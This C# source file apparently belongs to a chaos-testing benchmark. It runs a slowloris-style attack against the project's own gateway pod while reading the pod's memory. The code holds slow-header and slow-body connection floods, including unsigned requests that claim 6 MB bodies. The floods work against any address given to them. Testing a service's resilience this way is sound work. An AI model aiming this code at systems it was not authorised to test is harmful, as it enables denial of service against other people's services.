using System.Globalization;
using System.Net.Sockets;
using System.Text;

namespace Lamina.Bench.Chaos;

/// <summary>
/// The abuse of issue 19 against one gateway pod (its pod IP on the local bridge): slow unauthenticated
/// connections that never finish their headers (a header line every few seconds, as slowloris does),
/// and connections that send complete unsigned headers claiming a 6 MB body and then stream it
/// slowly. Every connection is held until the attack's end or until the gateway closes it; while it
/// lasts, the gateway pod's memory is read from its cgroup on the node.
/// </summary>
internal sealed class GatewayAbuse
{
    /// <summary>Lambda's largest synchronous payload: what an attacker would claim.</summary>
    public const int BodyBytes = 6 * 1024 * 1024;

    /// <summary>Each body is written in pieces this big...</summary>
    private const int ChunkBytes = 16 * 1024;

    /// <summary>...one every this long: 160 KB/s per connection, so a 6 MB body takes about 40 s.</summary>
    private static readonly TimeSpan ChunkInterval = TimeSpan.FromMilliseconds(100);

    /// <summary>A slow connection's next header line comes after this long.</summary>
    private static readonly TimeSpan HeaderInterval = TimeSpan.FromSeconds(5);

    /// <summary>Connecting is bounded: a gateway that stops accepting does not hold the attack.</summary>
    private static readonly TimeSpan ConnectTimeout = TimeSpan.FromSeconds(5);

    /// <summary>The pod's memory is read this often.</summary>
    private static readonly TimeSpan MemoryInterval = TimeSpan.FromMilliseconds(250);

    private int _connectedSlow;
    private int _connectedBodies;
    private int _refused;
    private int _closedByGateway;
    private long _bodyBytesSent;
    private long _peakMemory;
    private int _memorySamples;

    public int ConnectedSlow => _connectedSlow;

    public int ConnectedBodies => _connectedBodies;

    /// <summary>Connections that could not be made at all.</summary>
    public int Refused => _refused;

    /// <summary>Connections the gateway closed (or answered) before the attack ended.</summary>
    public int ClosedByGateway => _closedByGateway;

    public long BodyBytesSent => Interlocked.Read(ref _bodyBytesSent);

    /// <summary>The highest cgroup memory seen, in bytes (0 when it could not be read).</summary>
    public long PeakMemory => Interlocked.Read(ref _peakMemory);

    public int MemorySamples => _memorySamples;

    /// <summary>Runs the attack for <paramref name="duration"/> against <paramref name="address"/>:<paramref name="port"/>, reading the memory of pod <paramref name="podUid"/>.</summary>
    public async Task RunAsync(string address, int port, string podUid, int slowConnections, int bodyConnections, TimeSpan duration)
    {
        using var end = new CancellationTokenSource(duration);
        var memory = SampleMemoryAsync(podUid, end.Token);
        var attackers = new List<Task>();
        attackers.AddRange(Enumerable.Range(0, slowConnections).Select(i => Task.Run(() => SlowHeadersAsync(address, port, i, end.Token))));
        attackers.AddRange(Enumerable.Range(0, bodyConnections).Select(i => Task.Run(() => SlowBodyAsync(address, port, i, end.Token))));
        await Task.WhenAll(attackers);
        await memory;
    }

    private async Task SlowHeadersAsync(string address, int port, int n, CancellationToken end)
    {
        using var client = await ConnectAsync(address, port, end);
        if (client is null)
        {
            return;
        }

        Interlocked.Increment(ref _connectedSlow);
        var stream = client.GetStream();
        var head = $"POST /2015-03-31/functions/default.f{n}/invocations HTTP/1.1\r\nHost: {address}\r\n";
        if (!await WriteAsync(stream, Encoding.ASCII.GetBytes(head), end))
        {
            return;
        }

        for (var line = 0; !end.IsCancellationRequested; line++)
        {
            try
            {
                await Task.Delay(HeaderInterval, end);
            }
            catch (OperationCanceledException)
            {
                return;
            }

            if (!await WriteAsync(stream, Encoding.ASCII.GetBytes($"X-Slow-{line}: {n}\r\n"), end))
            {
                return;
            }
        }
    }

    private async Task SlowBodyAsync(string address, int port, int n, CancellationToken end)
    {
        using var client = await ConnectAsync(address, port, end);
        if (client is null)
        {
            return;
        }

        Interlocked.Increment(ref _connectedBodies);
        var stream = client.GetStream();
        var head = $"POST /2015-03-31/functions/default.f{n}/invocations HTTP/1.1\r\nHost: {address}\r\nContent-Type: application/json\r\nContent-Length: {BodyBytes.ToString(CultureInfo.InvariantCulture)}\r\n\r\n";
        if (!await WriteAsync(stream, Encoding.ASCII.GetBytes(head), end))
        {
            return;
        }

        var chunk = new byte[ChunkBytes];
        chunk.AsSpan().Fill((byte)'a');
        for (var sent = 0; sent < BodyBytes && !end.IsCancellationRequested; sent += ChunkBytes)
        {
            if (!await WriteAsync(stream, chunk.AsMemory(0, Math.Min(ChunkBytes, BodyBytes - sent)), end))
            {
                return;
            }

            Interlocked.Add(ref _bodyBytesSent, Math.Min(ChunkBytes, BodyBytes - sent));
            try
            {
                await Task.Delay(ChunkInterval, end);
            }
            catch (OperationCanceledException)
            {
                return;
            }
        }

        // The whole body sent before the end: wait for the answer (a 403 after buffering it all), bounded by the attack.
        try
        {
            _ = await stream.ReadAsync(new byte[1], end);
        }
        catch (Exception e) when (e is OperationCanceledException or IOException)
        {
        }
    }

    private async Task<TcpClient?> ConnectAsync(string address, int port, CancellationToken end)
    {
        var client = new TcpClient { NoDelay = true };
        using var timeout = CancellationTokenSource.CreateLinkedTokenSource(end);
        timeout.CancelAfter(ConnectTimeout);
        try
        {
            await client.ConnectAsync(address, port, timeout.Token);
            return client;
        }
        catch (Exception e) when (e is SocketException or OperationCanceledException)
        {
            client.Dispose();
            if (!end.IsCancellationRequested)
            {
                Interlocked.Increment(ref _refused);
            }

            return null;
        }
    }

    /// <summary>Writes; false (counted as closed by the gateway) when the gateway closed the connection or answered.</summary>
    private async Task<bool> WriteAsync(NetworkStream stream, ReadOnlyMemory<byte> bytes, CancellationToken end)
    {
        try
        {
            if (stream.DataAvailable)
            {
                // An answer before the request ended (a 4xx, 408, 413, 429...): the gateway refused it.
                Interlocked.Increment(ref _closedByGateway);
                return false;
            }

            await stream.WriteAsync(bytes, end);
            return true;
        }
        catch (OperationCanceledException)
        {
            return false;
        }
        catch (IOException)
        {
            Interlocked.Increment(ref _closedByGateway);
            return false;
        }
    }

    private async Task SampleMemoryAsync(string podUid, CancellationToken end)
    {
        while (!end.IsCancellationRequested)
        {
            if (ChaosRelease.MemoryOf(podUid) is { } bytes)
            {
                Interlocked.Increment(ref _memorySamples);
                long peak;
                while (bytes > (peak = Interlocked.Read(ref _peakMemory)) && Interlocked.CompareExchange(ref _peakMemory, bytes, peak) != peak)
                {
                }
            }

            try
            {
                await Task.Delay(MemoryInterval, end);
            }
            catch (OperationCanceledException)
            {
                return;
            }
        }
    }
}
